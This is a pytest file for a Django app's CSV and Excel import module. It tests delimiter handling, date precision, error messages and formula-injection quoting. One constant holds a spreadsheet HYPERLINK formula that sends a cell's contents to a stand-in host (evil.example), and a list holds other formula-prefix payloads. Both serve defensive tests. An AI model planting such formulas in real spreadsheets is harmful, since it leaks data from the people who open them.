"""Reading the uploaded file: CSV with commas or semicolons, Excel cells at the precision their
format shows, and every file that cannot be read saying why (cooperation/imports/files.py)."""

import datetime
import io
import zipfile

import openpyxl
import pytest

from cooperation.core.partial_dates import PartialDate as PD
from cooperation.imports import CREATE, ImportFileError, apply_import, plan_import, read_table
from cooperation.imports import files as import_files
from events.models import Meeting
from tests.helpers.imports import make_csv, run_import, seed_like, xlsx_of

pytestmark = pytest.mark.django_db


# What a file holds ------------------------------------------------------------------------------


def test_a_semicolon_separated_csv_from_a_european_excel_is_read():
    seed_like()
    rows = [
        ["slug", "title", "kind", "start_iso", "end_iso", "partner_slugs"],
        ["new-meeting", "Semicolons", "Visit", "05.03.2001", "2001-03", "iom; eu"],
    ]
    table = read_table("meetings.csv", make_csv(rows, delimiter=";"))
    assert table.delimiter == ";"
    plan = plan_import(Meeting, table)
    assert [row.action for row in plan.rows] == [CREATE]
    apply_import(plan=plan)
    meeting = Meeting.objects.get(slug="new-meeting")
    assert (meeting.start, meeting.end) == (PD(2001, 3, 5), PD(2001, 3))
    assert sorted(meeting.partners.values_list("slug", flat=True)) == ["eu", "iom"]


def test_excel_date_and_number_cells_are_read_at_the_precision_their_format_shows():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["slug", "title", "kind", "start_iso", "end_iso"])
    sheet.append(["day", "A", "Visit", datetime.datetime(2006, 8, 1), None])
    sheet.append(["month", "B", "Visit", datetime.datetime(2006, 8, 1), datetime.datetime(2006, 9, 1)])
    sheet.append(["year", "C", "Visit", 1998, datetime.datetime(1999, 1, 1)])
    sheet.append(["text", "D", "Visit", "2006-08", "8 December 2006"])
    sheet["D2"].number_format = "dd/mm/yyyy"
    sheet["D3"].number_format = "mmm-yy"
    sheet["E3"].number_format = "mmmm yyyy"
    sheet["E4"].number_format = "yyyy"
    output = io.BytesIO()
    workbook.save(output)
    run_import(Meeting, "meetings.xlsx", output.getvalue())
    dates = {meeting.slug: (meeting.start, meeting.end) for meeting in Meeting.objects.all()}
    assert dates == {
        "day": (PD(2006, 8, 1), None),
        "month": (PD(2006, 8), PD(2006, 9)),
        "year": (PD(1998), PD(1999)),
        "text": (PD(2006, 8), PD(2006, 12, 8)),
    }


# Files that cannot be read ----------------------------------------------------------------------


def not_an_xlsx_zip():
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    return output.getvalue()


FILE_ERRORS = [
    (
        "partners.txt",
        b"slug\n",
        "“partners.txt” is not a CSV or .xlsx file: upload a file whose name ends in .csv or .xlsx.",
    ),
    (
        "partners.xls",
        b"\xd0\xcf\x11\xe0",
        "“partners.xls” is not a CSV or .xlsx file. Save it from your spreadsheet "
        "program as Excel Workbook (.xlsx) or CSV UTF-8, then upload that.",
    ),
    ("partners.csv", b"", "The file is empty."),
    (
        "partners.csv",
        "slug,name\nt\xfcrkiye,T\xfcrkiye\n".encode("cp1252"),
        "The file is not UTF-8 text (byte 0xFC on "
        "line 2 is not UTF-8): it was probably saved in an older Excel encoding. " + import_files.SAVE_AS_CSV_UTF8,
    ),
    (
        "partners.csv",
        "slug,name\n".encode("utf-16"),
        "The file is UTF-16 text (Excel's “Unicode Text”), not UTF-8 CSV. " + import_files.SAVE_AS_CSV_UTF8,
    ),
    (
        "partners.csv",
        b'slug,name\r\na,"A" b\r\n',
        "The CSV file is damaged on line 2: ',' expected after '\"'. Check "
        "the quotes around that line, or save the file again from your spreadsheet program.",
    ),
    (
        "partners.csv",
        b"slug,name\x00\n",
        "The file holds NUL bytes, which a CSV text file never does: is it really a CSV file?",
    ),
    (
        "partners.csv",
        b"\xef\xbb\xbf\r\n\r\n",
        "The first row must name the columns (slug, name, …), as in an export or "
        "the template; in this file it is empty.",
    ),
    (
        "partners.csv",
        b"slug,name\r\n,\r\n",
        "The file names its columns but has no rows below them: there is nothing to import.",
    ),
    (
        "partners.xlsx",
        b"PK\x03\x04 truncated",
        "The file is not a valid .xlsx workbook (it is damaged, or not an Excel file).",
    ),
    (
        "partners.xlsx",
        not_an_xlsx_zip(),
        "The .xlsx workbook is damaged and cannot be read. Open it in Excel and save "
        "it again, or save it as CSV UTF-8.",
    ),
    (
        "partners.xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest",
        "This is an old-style Excel file (.xls) renamed to "
        ".xlsx. Open it in Excel and save it as Excel Workbook (.xlsx) or CSV UTF-8.",
    ),
    (
        "partners.xlsx",
        xlsx_of([["slug", "name"]]),
        "The file names its columns but has no rows below them: there is nothing to import.",
    ),
]


@pytest.mark.parametrize(("filename", "data", "message"), FILE_ERRORS)
def test_a_file_that_cannot_be_read_says_why(filename, data, message):
    with pytest.raises(ImportFileError) as raised:
        read_table(filename, data)
    assert str(raised.value) == message


def test_too_many_rows_or_bytes(settings):
    settings.IMPORT_MAX_ROWS = 2
    data = make_csv([["slug"], ["a"], ["b"], ["c"]])
    with pytest.raises(ImportFileError, match="more than 2 rows; one import takes at most 2"):
        read_table("p.csv", data)
    with pytest.raises(ImportFileError, match="more than 2 rows"):
        read_table("p.xlsx", xlsx_of([["slug"], ["a"], ["b"], ["c"]]))
    settings.IMPORT_MAX_UPLOAD_BYTES = 2048
    with pytest.raises(ImportFileError, match="^The file is 3 kB; one import takes at most 2 kB. Split it"):
        read_table("p.csv", data + b"x" * 3000)


# Formulas ---------------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORMULAS = [HYPERLINK, "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''@x"]


def test_an_xlsx_the_registry_writes_holds_no_formula_only_quoted_text_and_numbers():
    rows = [["m", text, -5] for text in FORMULAS]
    data = import_files.xlsx_bytes("meetings", ["slug", "title", "number"], rows, described=[["a"], [HYPERLINK]])
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook["meetings"]
    titles = [row[1] for row in sheet.iter_rows(min_row=2)]
    # A carriage return stays one (openpyxl writes and reads it escaped when lxml is installed,
    # as requirements.txt has it for the IATI import).
    assert [(cell.value, cell.data_type) for cell in titles] == [("'" + text, "s") for text in FORMULAS]
    assert {(row[2].value, row[2].data_type) for row in sheet.iter_rows(min_row=2)} == {(-5, "n")}
    assert [(cell.value, cell.data_type) for cell in workbook["Columns"]["A"]] == [("a", "s"), ("'" + HYPERLINK, "s")]


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_a_cell_quoted_against_formulas_is_read_as_the_text_it_was(extension):
    cells = ["'" + HYPERLINK, "''=1+1", "'@x", "'plain", "'", "a'=b"]
    rows = [["slug", "title"], *[[f"m{n}", cell] for n, cell in enumerate(cells)]]
    data = make_csv(rows) if extension == "csv" else xlsx_of(rows)
    table = read_table(f"meetings.{extension}", data)
    assert [cells[1] for _number, cells in table.rows] == [HYPERLINK, "'=1+1", "@x", "'plain", "'", "a'=b"]


def test_the_csv_and_xlsx_the_registry_writes_read_back_as_every_text_was():
    texts = [*FORMULAS, "'plain", "'", "a=b", "'\t'=x"]
    rows = [[f"m{n}", text, 5] for n, text in enumerate(texts)]
    for name, data, same in [
        ("meetings.csv", import_files.csv_bytes(["slug", "title", "number"], rows), str),
        ("meetings.xlsx", import_files.xlsx_bytes("meetings", ["slug", "title", "number"], rows), str),
    ]:
        table = read_table(name, data)
        assert table.headers == ("slug", "title", "number")
        expected = [[f"m{n}", same(text), "5"] for n, text in enumerate(texts)]
        assert [list(cells) for _number, cells in table.rows] == expected
